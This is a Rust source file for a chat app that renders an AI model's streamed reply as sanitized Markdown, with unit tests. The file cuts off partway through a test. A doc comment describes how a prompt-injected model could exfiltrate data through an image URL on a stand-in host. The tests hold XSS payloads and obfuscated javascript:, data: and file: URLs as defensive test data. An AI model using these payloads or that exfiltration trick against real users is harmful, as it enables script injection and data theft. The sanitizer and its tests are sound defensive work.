//! The model's reply text rendered as Markdown, sanitized, while it streams.
//!
//! Two layers. [`parse`] turns text into a small tree of [`Node`]s — plain data,
//! tested natively — and that is where every rule about what a model may put on
//! the page is applied: raw HTML becomes literal text, a link keeps its `href` only
//! when it is `http:`, `https:`, `mailto:` or relative ([`SafeHref`]), an image is
//! never loaded, headings move under the chat's own heading, and the work is
//! bounded ([`MAX_MARKDOWN_CHARS`], [`MAX_DEPTH`]). [`markdown_view`] then builds
//! Leptos elements from the tree; it never writes an HTML string or `inner_html`,
//! so nothing the model wrote is ever parsed as HTML by the browser.
//!
//! A streaming reply is parsed again as it grows, so incomplete Markdown must read
//! sensibly: CommonMark already does — an unclosed ```` ``` ```` fence is a code
//! block to the end of the text, an unclosed `**` is the two characters.

use std::time::Duration;

use kiln_types::permission::group_digits;
use leptos::prelude::*;
use leptos::task::spawn_local;
use pulldown_cmark::{
    Alignment, CodeBlockKind, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd,
};

/// How much of a reply is rendered as Markdown, in characters; the rest is left
/// out with a note. Parsing is linear, but a reply is parsed again on every
/// streamed piece and each node is a DOM element.
pub(crate) const MAX_MARKDOWN_CHARS: usize = 200_000;

/// How deeply containers (quotes, lists, emphasis, links…) may nest. Deeper
/// content is kept as text in the container at this depth. The tree is built
/// by a loop whatever the depth; this cap is what bounds the recursive walks
/// over the finished tree (the view, `Drop`, [`plain_text`]).
pub(crate) const MAX_DEPTH: usize = 32;

/// A code block's language, as shown and as a class, is at most this many characters.
const MAX_LANGUAGE_CHARS: usize = 32;

/// How long the Copy button says "Copied" (or "Copy failed").
const COPY_FEEDBACK: Duration = Duration::from_secs(2);

/// A parsed reply: the nodes, and how many characters past
/// [`MAX_MARKDOWN_CHARS`] were left out.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct MarkdownTree {
    pub(crate) nodes: Vec<Node>,
    pub(crate) omitted_chars: usize,
}

/// A table cell's content.
pub(crate) type Cell = Vec<Node>;

/// A list item's content: blocks, or inline content directly in a tight list.
pub(crate) type ListItem = Vec<Node>;

/// One piece of a reply. Block and inline nodes share the enum because
/// Markdown mixes them (a tight list item holds text and a nested list).
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Node {
    Paragraph(Vec<Node>),
    /// A heading at the level the model wrote; [`page_heading`] says which
    /// element it becomes.
    Heading {
        level: HeadingLevel,
        children: Vec<Node>,
    },
    BlockQuote(Vec<Node>),
    /// A fenced or indented code block. `language` is the first word of the
    /// fence's info string, at most [`MAX_LANGUAGE_CHARS`] characters.
    CodeBlock {
        language: Option<String>,
        code: String,
    },
    /// `start` is `Some` for an ordered list.
    List {
        start: Option<u64>,
        items: Vec<ListItem>,
    },
    Table {
        alignments: Vec<Alignment>,
        header: Vec<Cell>,
        rows: Vec<Vec<Cell>>,
    },
    ThematicBreak,
    Text(String),
    /// Inline code.
    Code(String),
    Emphasis(Vec<Node>),
    Strong(Vec<Node>),
    Strikethrough(Vec<Node>),
    /// A hard line break.
    LineBreak,
    /// A link whose target passed [`SafeHref::new`]; any other link is its text.
    Link {
        href: SafeHref,
        children: Vec<Node>,
    },
    /// An image, never loaded: a model's `![x](https://evil.example/?q=SECRET)`
    /// would make the browser send whatever the model put in the URL — a known
    /// way for a prompt injection to carry data out — the moment it rendered.
    /// It shows as "image: ALT", a link the person may open deliberately when
    /// `href` passed [`SafeHref::new`] (and it is not inside another link).
    Image {
        alt: String,
        href: Option<SafeHref>,
    },
    /// A task list's `[ ]` or `[x]`.
    TaskMarker {
        checked: bool,
    },
}

/// A link target the page may follow: `http:`, `https:`, `mailto:`, or a
/// relative or fragment URL. The only way to make one is [`SafeHref::new`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct SafeHref(String);

impl SafeHref {
    /// The target as the link's `href`, or `None` when it names any other scheme
    /// (`javascript:`, `data:`, `vbscript:`, `file:`…).
    ///
    /// The scheme is read the way a browser would read it, only more strictly:
    /// with every whitespace and control character removed (a browser drops tabs
    /// and newlines anywhere, so `java\tscript:` is `javascript:` to it), compared
    /// without case, and any `:` before the first `/`, `?` or `#` counts as ending
    /// a scheme, whether or not the browser would call it one.
    pub(crate) fn new(raw: &str) -> Option<Self> {
        let compact: String = raw
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .collect();
        if let Some(end) = compact.find([':', '/', '?', '#'])
            && compact[end..].starts_with(':')
        {
            let scheme = &compact[..end];
            if !["http", "https", "mailto"]
                .iter()
                .any(|allowed| scheme.eq_ignore_ascii_case(allowed))
            {
                return None;
            }
        }
        let href: String = raw
            .trim_matches(|c: char| c.is_whitespace() || c.is_control())
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .collect();
        Some(Self(href))
    }

    /// The target, for the `href` attribute.
    pub(crate) fn as_str(&self) -> &str {
        &self.0
    }
}

/// The element a model's heading becomes. The chat sits under the page's `h2`,
/// so a model's `#` is an `h3`, `##` an `h4`, `###` an `h5`, and deeper
/// headings stay `h6`: the page's heading order stays sane for assistive
/// technology (axe's `heading-order`) whatever levels the model uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum PageHeading {
    H3,
    H4,
    H5,
    H6,
}

/// The page element for a model's heading level (see [`PageHeading`]).
pub(crate) fn page_heading(level: HeadingLevel) -> PageHeading {
    match level {
        HeadingLevel::H1 => PageHeading::H3,
        HeadingLevel::H2 => PageHeading::H4,
        HeadingLevel::H3 => PageHeading::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => PageHeading::H6,
    }
}

/// A code block language as a CSS class: `language-` and the language's
/// ASCII letters, digits, `_`, `+` and `-` (at most [`MAX_LANGUAGE_CHARS`]), or
/// `None` when none are left.
pub(crate) fn language_class(language: &str) -> Option<String> {
    let token: String = language
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '+' | '-'))
        .take(MAX_LANGUAGE_CHARS)
        .collect();
    (!token.is_empty()).then(|| format!("language-{token}"))
}

/// The Markdown the chat reads: CommonMark with tables, strikethrough and task
/// lists. No smart punctuation: plain text must come out as it went in.
fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// Parses a reply into the sanitized tree the view renders.
pub(crate) fn parse(text: &str) -> MarkdownTree {
    let (shown, omitted_chars) = match text.char_indices().nth(MAX_MARKDOWN_CHARS) {
        Some((byte, _)) => match text.split_at_checked(byte) {
            Some((shown, rest)) => (shown, rest.chars().count()),
            None => (text, 0),
        },
        None => (text, 0),
    };
    let mut builder = TreeBuilder::default();
    for event in Parser::new_ext(shown, options()) {
        builder.event(event);
    }
    MarkdownTree {
        nodes: builder.finish(),
        omitted_chars,
    }
}

/// The text a node list reads as, without its markup (an image's alt text, and
/// the tests' check that plain text comes out unchanged).
pub(crate) fn plain_text(nodes: &[Node]) -> String {
    let mut text = String::new();
    push_plain_text(nodes, &mut text);
    text
}

/// Recursion bounded by [`MAX_DEPTH`]: the tree is never deeper.
fn push_plain_text(nodes: &[Node], text: &mut String) {
    for node in nodes {
        match node {
            Node::Text(content) | Node::Code(content) => text.push_str(content),
            Node::CodeBlock { code, .. } => text.push_str(code),
            Node::LineBreak => text.push('\n'),
            Node::Image { alt, .. } => text.push_str(alt),
            Node::Paragraph(children)
            | Node::BlockQuote(children)
            | Node::Emphasis(children)
            | Node::Strong(children)
            | Node::Strikethrough(children)
            | Node::Heading { children, .. }
            | Node::Link { children, .. } => push_plain_text(children, text),
            Node::List { items, .. } => {
                for item in items {
                    push_plain_text(item, text);
                }
            }
            Node::Table { header, rows, .. } => {
                for cell in header.iter().chain(rows.iter().flatten()) {
                    push_plain_text(cell, text);
                }
            }
            Node::ThematicBreak | Node::TaskMarker { .. } => {}
        }
    }
}

/// An element being built: what it is and what it holds so far.
#[derive(Debug)]
struct Frame {
    open: Open,
    children: Vec<Node>,
}

/// What an unfinished [`Frame`] is. Lists and tables gather their items, rows
/// and cells here; stray children (only ever text from [`MAX_DEPTH`]'s
/// flattening) become one more item, cell or row so no text is lost.
#[derive(Debug)]
enum Open {
    Paragraph,
    Heading(HeadingLevel),
    BlockQuote,
    CodeBlock(Option<String>),
    HtmlBlock,
    List {
        start: Option<u64>,
        items: Vec<ListItem>,
    },
    Item,
    Table {
        alignments: Vec<Alignment>,
        header: Vec<Cell>,
        rows: Vec<Vec<Cell>>,
    },
    TableHead(Vec<Cell>),
    TableRow(Vec<Cell>),
    TableCell,
    Emphasis,
    Strong,
    Strikethrough,
    /// `None`: a link to a refused target, or inside another link: its text only.
    Link(Option<SafeHref>),
    Image(Option<SafeHref>),
    /// Markup the chat does not render (footnotes, and anything the options do
    /// not turn on): its content joins the parent.
    Transparent,
}

/// Turns pulldown-cmark's events into [`Node`]s with an explicit stack, so a
/// deeply nested reply cannot overflow the call stack.
#[derive(Debug, Default)]
struct TreeBuilder {
    root: Vec<Node>,
    stack: Vec<Frame>,
    /// Containers opened past [`MAX_DEPTH`] and not closed yet; while any are,
    /// starts and ends only count and content is text.
    flattened: usize,
}

impl TreeBuilder {
    fn event(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(end) => self.end(end),
            // Raw HTML from the model is text, never markup.
            Event::Text(text)
            | Event::Html(text)
            | Event::InlineHtml(text)
            | Event::InlineMath(text)
            | Event::DisplayMath(text) => push_text(self.children(), &text),
            Event::Code(code) => self.push(Node::Code(code.into_string())),
            Event::FootnoteReference(label) => {
                push_text(self.children(), &format!("[^{label}]"));
            }
            Event::SoftBreak => push_text(self.children(), "\n"),
            Event::HardBreak => self.push(Node::LineBreak),
            Event::Rule => self.push(Node::ThematicBreak),
            Event::TaskListMarker(checked) => self.push(Node::TaskMarker { checked }),
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        if self.flattened > 0 || self.stack.len() >= MAX_DEPTH {
            self.flattened += 1;
            return;
        }
        let open = match tag {
            Tag::Paragraph => Open::Paragraph,
            Tag::Heading { level, .. } => Open::Heading(level),
            Tag::BlockQuote(_) => Open::BlockQuote,
            Tag::CodeBlock(CodeBlockKind::Fenced(info)) => Open::CodeBlock(
                info.split_whitespace()
                    .next()
                    .map(|word| word.chars().take(MAX_LANGUAGE_CHARS).collect()),
            ),
            Tag::CodeBlock(CodeBlockKind::Indented) => Open::CodeBlock(None),
            Tag::HtmlBlock => Open::HtmlBlock,
            Tag::List(start) => Open::List {
                start,
                items: Vec::new(),
            },
            Tag::Item => Open::Item,
            Tag::Table(alignments) => Open::Table {
                alignments,
                header: Vec::new(),
                rows: Vec::new(),
            },
            Tag::TableHead => Open::TableHead(Vec::new()),
            Tag::TableRow => Open::TableRow(Vec::new()),
            Tag::TableCell => Open::TableCell,
            Tag::Emphasis => Open::Emphasis,
            Tag::Strong => Open::Strong,
            Tag::Strikethrough => Open::Strikethrough,
            Tag::Link {
                link_type,
                dest_url,
                ..
            } => Open::Link(self.href(link_type, &dest_url)),
            Tag::Image {
                link_type,
                dest_url,
                ..
            } => Open::Image(self.href(link_type, &dest_url)),
            Tag::FootnoteDefinition(_)
            | Tag::DefinitionList
            | Tag::DefinitionListTitle
            | Tag::DefinitionListDefinition
            | Tag::Superscript
            | Tag::Subscript
            | Tag::MetadataBlock(_) => Open::Transparent,
        };
        self.stack.push(Frame {
            open,
            children: Vec::new(),
        });
    }

    /// A link's or image's target, if it may be followed from here: never
    /// inside another link, where a second `<a>` would nest.
    fn href(&self, link_type: LinkType, dest_url: &str) -> Option<SafeHref> {
        let in_link = self
            .stack
            .iter()
            .any(|frame| matches!(frame.open, Open::Link(Some(_))));
        if in_link {
            return None;
        }
        match link_type {
            // `<someone@example.com>`: the destination comes without its scheme.
            LinkType::Email => SafeHref::new(&format!("mailto:{dest_url}")),
            _ => SafeHref::new(dest_url),
        }
    }

    fn end(&mut self, end: TagEnd) {
        if self.flattened > 0 {
            self.flattened -= 1;
            if is_block(end) {
                push_text(self.children(), "\n");
            }
            return;
        }
        if let Some(frame) = self.stack.pop() {
            self.close(frame);
        }
    }

    /// Puts a finished frame into its parent.
    fn close(&mut self, frame: Frame) {
        let Frame { open, children } = frame;
        let node = match open {
            Open::Paragraph | Open::HtmlBlock => Node::Paragraph(children),
            Open::Heading(level) => Node::Heading { level, children },
            Open::BlockQuote => Node::BlockQuote(children),
            Open::CodeBlock(language) => Node::CodeBlock {
                language,
                code: plain_text(&children),
            },
            Open::List { start, mut items } => {
                if !children.is_empty() {
                    items.push(children);
                }
                Node::List { start, items }
            }
            Open::Table {
                alignments,
                header,
                mut rows,
            } => {
                if !children.is_empty() {
                    rows.push(vec![children]);
                }
                Node::Table {
                    alignments,
                    header,
                    rows,
                }
            }
            Open::Emphasis => Node::Emphasis(children),
            Open::Strong => Node::Strong(children),
            Open::Strikethrough => Node::Strikethrough(children),
            Open::Link(Some(href)) => Node::Link { href, children },
            Open::Image(href) => Node::Image {
                alt: plain_text(&children),
                href,
            },
            Open::Link(None) | Open::Transparent => return self.splice(children),
            Open::Item => {
                return match self.stack.last_mut() {
                    Some(Frame {
                        open: Open::List { items, .. },
                        ..
                    }) => items.push(children),
                    _ => self.splice(children),
                };
            }
            Open::TableCell => {
                return match self.stack.last_mut() {
                    Some(Frame {
                        open: Open::TableHead(cells) | Open::TableRow(cells),
                        ..
                    }) => cells.push(children),
                    _ => self.splice(children),
                };
            }
            Open::TableHead(mut cells) => {
                if !children.is_empty() {
                    cells.push(children);
                }
                return match self.stack.last_mut() {
                    Some(Frame {
                        open: Open::Table { header, .. },
                        ..
                    }) => *header = cells,
                    _ => cells.into_iter().for_each(|cell| self.splice(cell)),
                };
            }
            Open::TableRow(mut cells) => {
                if !children.is_empty() {
                    cells.push(children);
                }
                return match self.stack.last_mut() {
                    Some(Frame {
                        open: Open::Table { rows, .. },
                        ..
                    }) => rows.push(cells),
                    _ => cells.into_iter().for_each(|cell| self.splice(cell)),
                };
            }
        };
        self.push(node);
    }

    /// The children of the innermost open element.
    fn children(&mut self) -> &mut Vec<Node> {
        match self.stack.last_mut() {
            Some(frame) => &mut frame.children,
            None => &mut self.root,
        }
    }

    fn push(&mut self, node: Node) {
        match node {
            Node::Text(text) => push_text(self.children(), &text),
            node => self.children().push(node),
        }
    }

    /// Puts an element's children into its parent in its place.
    fn splice(&mut self, children: Vec<Node>) {
        for child in children {
            self.push(child);
        }
    }

    /// The tree, closing whatever is still open.
    fn finish(mut self) -> Vec<Node> {
        while let Some(frame) = self.stack.pop() {
            self.close(frame);
        }
        self.root
    }
}

/// Adds text, joined to the text before it so a run of text is one node.
fn push_text(children: &mut Vec<Node>, text: &str) {
    match children.last_mut() {
        Some(Node::Text(last)) => last.push_str(text),
        _ => children.push(Node::Text(text.to_owned())),
    }
}

/// Whether an element is a block, so its text, once flattened, ends a line.
fn is_block(end: TagEnd) -> bool {
    !matches!(
        end,
        TagEnd::Emphasis
            | TagEnd::Strong
            | TagEnd::Strikethrough
            | TagEnd::Superscript
            | TagEnd::Subscript
            | TagEnd::Link
            | TagEnd::Image
    )
}

/// A reply's text as sanitized Markdown: `<div class="markdown"
/// data-testid="chat-reply-text">` holding the elements of [`parse`]'s tree,
/// and a note when the text was longer than [`MAX_MARKDOWN_CHARS`].
pub(crate) fn markdown_view(text: &str) -> AnyView {
    let MarkdownTree {
        nodes,
        omitted_chars,
    } = parse(text);
    let note = (omitted_chars > 0).then(|| {
        let shown = group_digits(MAX_MARKDOWN_CHARS as u64);
        let omitted = group_digits(omitted_chars as u64);
        view! {
            <p class="md-note">
                {format!("Only the first {shown} characters are shown; {omitted} more are left out.")}
            </p>
        }
    });
    view! { <div class="markdown" data-testid="chat-reply-text">{nodes_view(nodes)}{note}</div> }
        .into_any()
}

/// Recursion bounded by [`MAX_DEPTH`]: the tree is never deeper.
fn nodes_view(nodes: Vec<Node>) -> AnyView {
    nodes.into_iter().map(node_view).collect_view().into_any()
}

fn node_view(node: Node) -> AnyView {
    match node {
        Node::Paragraph(children) => view! { <p>{nodes_view(children)}</p> }.into_any(),
        Node::Heading { level, children } => {
            let children = nodes_view(children);
            match page_heading(level) {
                PageHeading::H3 => view! { <h3>{children}</h3> }.into_any(),
                PageHeading::H4 => view! { <h4>{children}</h4> }.into_any(),
                PageHeading::H5 => view! { <h5>{children}</h5> }.into_any(),
                PageHeading::H6 => view! { <h6>{children}</h6> }.into_any(),
            }
        }
        Node::BlockQuote(children) => {
            view! { <blockquote>{nodes_view(children)}</blockquote> }.into_any()
        }
        Node::CodeBlock { language, code } => code_block_view(language, code),
        Node::List { start, items } => {
            let items = items
                .into_iter()
                .map(|item| {
                    let class = is_task_item(&item).then_some("md-task");
                    view! { <li class=class>{nodes_view(item)}</li> }
                })
                .collect_view();
            match start {
                Some(start) => view! { <ol start=start.to_string()>{items}</ol> }.into_any(),
                None => view! { <ul>{items}</ul> }.into_any(),
            }
        }
        Node::Table {
            alignments,
            header,
            rows,
        } => table_view(&alignments, header, rows),
        Node::ThematicBreak => view! { <hr /> }.into_any(),
        Node::Text(text) => text.into_any(),
        Node::Code(code) => view! { <code>{code}</code> }.into_any(),
        Node::Emphasis(children) => view! { <em>{nodes_view(children)}</em> }.into_any(),
        Node::Strong(children) => view! { <strong>{nodes_view(children)}</strong> }.into_any(),
        Node::Strikethrough(children) => view! { <del>{nodes_view(children)}</del> }.into_any(),
        Node::LineBreak => view! { <br /> }.into_any(),
        Node::Link { href, children } => view! {
            <a href=href.as_str().to_owned() target="_blank" rel="noopener noreferrer">
                {nodes_view(children)}
            </a>
        }
        .into_any(),
        Node::Image { alt, href } => {
            let label = if alt.is_empty() {
                "image".to_owned()
            } else {
                format!("image: {alt}")
            };
            match href {
                Some(href) => view! {
                    <a class="md-image" href=href.as_str().to_owned() target="_blank" rel="noopener noreferrer">
                        {label}
                    </a>
                }
                .into_any(),
                None => view! { <span class="md-image">{label}</span> }.into_any(),
            }
        }
        Node::TaskMarker { checked } => view! {
            <input type="checkbox" class="md-task-box" disabled=true checked=checked aria-label="Task" />
        }
        .into_any(),
    }
}

/// Whether a list item starts with a task box (directly, or in its first
/// paragraph in a loose list), so the stylesheet can drop its bullet.
fn is_task_item(item: &[Node]) -> bool {
    match item.first() {
        Some(Node::TaskMarker { .. }) => true,
        Some(Node::Paragraph(children)) => {
            matches!(children.first(), Some(Node::TaskMarker { .. }))
        }
        _ => false,
    }
}

/// A code block: its language (or "code") and a Copy button over a `<pre>`
/// that scrolls sideways inside itself and takes the keyboard focus so it can
/// be scrolled without a mouse (axe's `scrollable-region-focusable`).
fn code_block_view(language: Option<String>, code: String) -> AnyView {
    let class = language.as_deref().and_then(language_class);
    let label = language.unwrap_or_else(|| "code".to_owned());
    view! {
        <figure class="code-block">
            <div class="code-block-header">
                <span class="code-block-language">{label}</span>
                <CopyButton code=code.clone() />
            </div>
            <pre tabindex="0"><code class=class>{code}</code></pre>
        </figure>
    }
    .into_any()
}

/// A table in a region that scrolls sideways inside itself and takes the
/// keyboard focus (axe's `scrollable-region-focusable`).
fn table_view(alignments: &[Alignment], header: Vec<Cell>, rows: Vec<Vec<Cell>>) -> AnyView {
    let align = |column: usize| match alignments.get(column) {
        Some(Alignment::Left) => Some("md-align-left"),
        Some(Alignment::Center) => Some("md-align-center"),
        Some(Alignment::Right) => Some("md-align-right"),
        Some(Alignment::None) | None => None,
    };
    let header = header
        .into_iter()
        .enumerate()
        .map(|(column, cell)| {
            view! { <th scope="col" class=align(column)>{nodes_view(cell)}</th> }
        })
        .collect_view();
    let rows = rows
        .into_iter()
        .map(|row| {
            let cells = row
                .into_iter()
                .enumerate()
                .map(|(column, cell)| view! { <td class=align(column)>{nodes_view(cell)}</td> })
                .collect_view();
            view! { <tr>{cells}</tr> }
        })
        .collect_view();
    view! {
        <div class="md-table" tabindex="0" role="region" aria-label="Table">
            <table>
                <thead>
                    <tr>{header}</tr>
                </thead>
                <tbody>{rows}</tbody>
            </table>
        </div>
    }
    .into_any()
}

/// What the Copy button says.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CopyState {
    Ready,
    Copied,
    Failed,
}

impl CopyState {
    fn label(self) -> &'static str {
        match self {
            Self::Ready => "Copy",
            Self::Copied => "Copied",
            Self::Failed => "Copy failed",
        }
    }

    /// What the status region announces: the button's own name stays ("Copy code").
    fn announcement(self) -> &'static str {
        match self {
            Self::Ready => "",
            Self::Copied => "Copied",
            Self::Failed => "Copy failed",
        }
    }
}

/// Copies `code` (a code block, or a whole message) to the clipboard and says
/// for [`COPY_FEEDBACK`] whether it did; `name` is the button's accessible name
/// ("Copy code", "Copy message"). A reply being re-rendered may drop the button
/// mid-copy: its signals are then disposed and the late answer is ignored.
#[component]
pub(crate) fn CopyButton(
    code: String,
    #[prop(default = "Copy code")] name: &'static str,
    #[prop(default = "md-copy")] testid: &'static str,
) -> impl IntoView {
    let state = RwSignal::new(CopyState::Ready);
    // Which click the feedback belongs to, so an earlier click's timer does
    // not clear a later click's "Copied".
    let clicks = StoredValue::new(0_u64);
    let on_click = move |_| {
        let Some(click) = clicks.try_update_value(|count| {
            *count = count.wrapping_add(1);
            *count
        }) else {
            return;
        };
        let code = code.clone();
        spawn_local(async move {
            let outcome = copy_to_clipboard(&code).await;
            if state.try_set(outcome).is_some() {
                return;
            }
            set_timeout(
                move || {
                    if clicks.try_get_value() == Some(click) {
                        state.try_set(CopyState::Ready);
                    }
                },
                COPY_FEEDBACK,
            );
        });
    };
    view! {
        <button type="button" class="md-copy" aria-label=name data-testid=testid on:click=on_click>
            {move || state.get().label()}
        </button>
        <span class="md-sr-only" role="status">{move || state.get().announcement()}</span>
    }
}

/// `navigator.clipboard.writeText(code)`, as what the button should say.
async fn copy_to_clipboard(code: &str) -> CopyState {
    let Some(window) = web_sys::window() else {
        return CopyState::Failed;
    };
    let clipboard = window.navigator().clipboard();
    // Absent outside a secure context (a page served over plain http): calling
    // it would throw.
    if clipboard.is_undefined() || clipboard.is_null() {
        return CopyState::Failed;
    }
    match wasm_bindgen_futures::JsFuture::from(clipboard.write_text(code)).await {
        Ok(_) => CopyState::Copied,
        Err(_) => CopyState::Failed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The tree as a compact outline, so each case is one line of data:
    /// `p("text")`, `h1(..)`, `em(..)`, `a[href](..)`, `img[href]("alt")`,
    /// `pre[lang]("code")`, `ul(li(..))`, `ol[3](..)`, `table[l,c,r,-](head(..), row(..))`.
    fn outline(nodes: &[Node]) -> String {
        nodes
            .iter()
            .map(outline_node)
            .collect::<Vec<_>>()
            .join(", ")
    }

    fn outline_node(node: &Node) -> String {
        let wrap = |name: &str, children: &[Node]| format!("{name}({})", outline(children));
        match node {
            Node::Paragraph(children) => wrap("p", children),
            Node::Heading { level, children } => wrap(&level.to_string(), children),
            Node::BlockQuote(children) => wrap("quote", children),
            Node::CodeBlock { language, code } => match language {
                Some(language) => format!("pre[{language}]({code:?})"),
                None => format!("pre({code:?})"),
            },
            Node::List { start, items } => {
                let items: Vec<String> = items.iter().map(|item| wrap("li", item)).collect();
                match start {
                    Some(start) => format!("ol[{start}]({})", items.join(", ")),
                    None => format!("ul({})", items.join(", ")),
                }
            }
            Node::Table {
                alignments,
                header,
                rows,
            } => {
                let alignments: Vec<&str> = alignments
                    .iter()
                    .map(|alignment| match alignment {
                        Alignment::Left => "l",
                        Alignment::Center => "c",
                        Alignment::Right => "r",
                        Alignment::None => "-",
                    })
                    .collect();
                let cells = |cells: &[Cell]| {
                    cells
                        .iter()
                        .map(|cell| wrap("cell", cell))
                        .collect::<Vec<_>>()
                        .join(", ")
                };
                let mut parts = vec![format!("head({})", cells(header))];
                parts.extend(rows.iter().map(|row| format!("row({})", cells(row))));
                format!("table[{}]({})", alignments.join(","), parts.join(", "))
            }
            Node::ThematicBreak => "hr".to_owned(),
            Node::Text(text) => format!("{text:?}"),
            Node::Code(code) => format!("code({code:?})"),
            Node::Emphasis(children) => wrap("em", children),
            Node::Strong(children) => wrap("strong", children),
            Node::Strikethrough(children) => wrap("del", children),
            Node::LineBreak => "br".to_owned(),
            Node::Link { href, children } => wrap(&format!("a[{}]", href.as_str()), children),
            Node::Image { alt, href } => match href {
                Some(href) => format!("img[{}]({alt:?})", href.as_str()),
                None => format!("img({alt:?})"),
            },
            Node::TaskMarker { checked: true } => "[x]".to_owned(),
            Node::TaskMarker { checked: false } => "[ ]".to_owned(),
        }
    }

    /// Each case: Markdown in, the outline of the tree out.
    fn check(cases: &[(&str, &str)]) {
        for (markdown, expected) in cases {
            let tree = parse(markdown);
            assert_eq!(tree.omitted_chars, 0, "{markdown:?}");
            assert_eq!(outline(&tree.nodes), *expected, "{markdown:?}");
        }
    }

    /// How deeply containers nest in a tree.
    fn depth(nodes: &[Node]) -> usize {
        nodes
            .iter()
            .map(|node| match node {
                Node::Paragraph(children)
                | Node::BlockQuote(children)
                | Node::Emphasis(children)
                | Node::Strong(children)
                | Node::Strikethrough(children)
                | Node::Heading { children, .. }
                | Node::Link { children, .. } => 1 + depth(children),
                Node::List { items, .. } => {
                    2 + items.iter().map(|item| depth(item)).max().unwrap_or(0)
                }
                Node::Table { header, rows, .. } => {
                    3 + header
                        .iter()
                        .chain(rows.iter().flatten())
                        .map(|cell| depth(cell))
                        .max()
                        .unwrap_or(0)
                }
                Node::CodeBlock { .. } | Node::Image { .. } => 1,
                Node::ThematicBreak
                | Node::Text(_)
                | Node::Code(_)
                | Node::LineBreak
                | Node::TaskMarker { .. } => 0,
            })
            .max()
            .unwrap_or(0)
    }

    #[test]
    fn plain_text_is_a_paragraph_of_the_same_text() {
        check(&[("Lima", r#"p("Lima")"#)]);
        for text in ["Lima", "The capital is Lima.\nIt is in Peru.", "6 × 7 = 42"] {
            assert_eq!(plain_text(&parse(text).nodes), text);
        }
    }

    #[test]
    fn markdown_becomes_a_tree() {
        check(&[
            (
                "# One\n## Two\n###### Six",
                r#"h1("One"), h2("Two"), h6("Six")"#,
            ),
            (
                "*em* **strong** ~~gone~~ `code`",
                r#"p(em("em"), " ", strong("strong"), " ", del("gone"), " ", code("code"))"#,
            ),
            ("a  \nb", r#"p("a", br, "b")"#),
            ("a\n\n***\n\nb", r#"p("a"), hr, p("b")"#),
            ("> quoted", r#"quote(p("quoted"))"#),
            ("- a\n- b", r#"ul(li("a"), li("b"))"#),
            ("3. c\n4. d", r#"ol[3](li("c"), li("d"))"#),
            ("- a\n  - b", r#"ul(li("a", ul(li("b"))))"#),
            (
                "- [x] done\n- [ ] todo",
                r#"ul(li([x], "done"), li([ ], "todo"))"#,
            ),
            (
                "| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | *2* | 3 | 4 |",
                r#"table[l,c,r,-](head(cell("a"), cell("b"), cell("c"), cell("d")), row(cell("1"), cell(em("2")), cell("3"), cell("4")))"#,
            ),
            (
                "```rust\nfn main() {}\n```",
                r#"pre[rust]("fn main() {}\n")"#,
            ),
            ("    indented", r#"pre("indented")"#),
            (
                "[Kiln](https://example.com/kiln)",
                r#"p(a[https://example.com/kiln]("Kiln"))"#,
            ),
        ]);
    }

    #[test]
    fn incomplete_markdown_of_a_streaming_reply_reads_sensibly() {
        check(&[
            ("```rust\nfn main() {", r#"pre[rust]("fn main() {")"#),
            ("```", r#"pre("")"#),
            ("Some **bold", r#"p("Some **bold")"#),
            ("[a link](https://exa", r#"p("[a link](https://exa")"#),
            ("| a | b |", r#"p("| a | b |")"#),
            ("- [x", r#"ul(li("[x"))"#),
        ]);
    }

    #[test]
    fn raw_html_is_literal_text() {
        check(&[
            (
                "<script>alert(1)</script>",
                r#"p("<script>alert(1)</script>")"#,
            ),
            (
                "<div onclick=\"steal()\">\n*hi*\n</div>",
                r#"p("<div onclick=\"steal()\">\n*hi*\n</div>")"#,
            ),
            (
                "a <img src=x onerror=alert(1)> b",
                r#"p("a <img src=x onerror=alert(1)> b")"#,
            ),
            ("<!-- hidden -->", r#"p("<!-- hidden -->")"#),
        ]);
    }

    #[test]
    fn only_web_mail_and_relative_links_are_followed() {
        let allowed = [
            "https://example.com",
            "http://example.com/a?b#c",
            "HTTPS://EXAMPLE.COM",
            "mailto:someone@example.com",
            "/relative/path",
            "page.html",
            "#fragment",
            "?query=1",
            "//example.com/protocol-relative",
        ];
        for href in allowed {
            assert_eq!(
                SafeHref::new(href).as_ref().map(SafeHref::as_str),
                Some(href)
            );
        }
        assert_eq!(
            SafeHref::new(" \thttps://example.com\n")
                .as_ref()
                .map(SafeHref::as_str),
            Some("https://example.com")
        );
        let refused = [
            "javascript:alert(1)",
            " JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "\u{0}javascript:alert(1)",
            "\u{a0}javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "blob:https://example.com/x",
            "tel:123",
            "weird%:thing",
        ];
        for href in refused {
            assert_eq!(SafeHref::new(href), None, "{href:?}");
        }
    }

    #[test]
    fn a_refused_link_is_its_text_only() {
        check(&[
            ("[click](javascript:alert(1))", r#"p("click")"#),
            ("[click]( JaVaScRiPt:alert(1))", r#"p("click")"#),
            // Entities are decoded before the check: `&#9;` is a tab, `&colon;` a colon.
            ("[click](java&#9;script:alert(1))", r#"p("click")"#),
            ("[click](javascript&colon;alert(1))", r#"p("click")"#),
            ("[click](&#x6A;avascript:alert(1))", r#"p("click")"#),
            ("[click](<java\tscript:alert(1)>)", r#"p("click")"#),
            (
                "[click](data:text/html;base64,PHNjcmlwdD4=)",
                r#"p("click")"#,
            ),
            ("[click](vbscript:msgbox)", r#"p("click")"#),
            ("[click](file:///etc/passwd)", r#"p("click")"#),
